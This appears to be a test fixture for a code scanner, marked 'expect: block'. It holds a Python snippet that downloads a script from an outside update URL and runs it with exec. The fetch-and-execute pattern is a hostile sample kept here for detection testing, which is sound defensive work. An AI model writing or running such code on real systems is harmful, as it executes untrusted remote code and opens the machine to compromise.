# expect: block
import urllib.request

urllib.request.urlretrieve("https://updates.example-cdn.net/patch.py", "patch_cache.py")
with open("patch_cache.py") as fh:
    exec(fh.read(), {"__name__": "__main__"})
